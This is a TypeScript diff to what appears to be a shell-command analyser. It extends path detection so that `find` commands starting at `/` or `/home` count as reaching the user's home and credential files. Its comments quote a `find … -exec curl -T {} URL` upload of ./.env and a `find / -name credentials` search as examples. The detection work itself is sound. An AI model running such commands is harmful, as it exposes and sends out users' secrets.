@@ -3,7 +3,8 @@
  * their place: each start directory itself, its entries (`ROOT/*`) and theirs (`ROOT/* /*`), and
  * in a home directory its dotfiles too (`~/.*`, `~/.* /*`: ~/.bashrc, ~/.aws/credentials). One
  * `-name PATTERN` test narrows them to that name. Elsewhere a directory's dotfiles are tried only
- * for a secret sent (`find . -type f -exec curl -T {} URL ;` sends ./.env).
+ * for a secret sent (`find . -type f -exec curl -T {} URL ;` sends ./.env), and so is the home
+ * directory under a start point above it (`find / -name credentials`).
  */
 
 import type { Facts, Word } from "../../facts/types.js";
@@ -19,6 +20,8 @@ export interface FoundPath {
 
 const HOME_ROOT = /^(?:~[\w.-]*|"?\$\{?HOME\}?"?|\/home\/[^/]+|\/Users\/[^/]+|\/root)\/?$/;
 const FIND_OPTIONS = /^-(?:[HLP]|O\d*|D)$/;
+/** Start points above the home directories. */
+const HOLDS_HOME = /^\/(?:home|Users)?$/;
 const NEGATIONS: ReadonlySet<string> = new Set(["!", "-not"]);
 
 /** What a parse with a found path written in does not report besides `quiet`: with secretsOnly, all but a secret sent. */
@@ -48,6 +51,8 @@ export function foundPaths(words: readonly Word[], facts: Facts): FoundPath[] {
     out.push({ text: `${dir}/${base}`, secretsOnly: false }, { text: `${dir}/*/${base}`, secretsOnly: false });
     if (home) out.push({ text: `${dir}/.*/${base}`, secretsOnly: false });
     if (named === undefined) out.push({ text: `${dir}/.*`, secretsOnly: !home });
+    // `find / -name credentials`, `find /home …`: the user's home is among what it walks.
+    if (HOLDS_HOME.test(root)) out.push({ text: `~/${base}`, secretsOnly: true }, { text: `~/.*/${base}`, secretsOnly: true });
   }
   return out;
 }
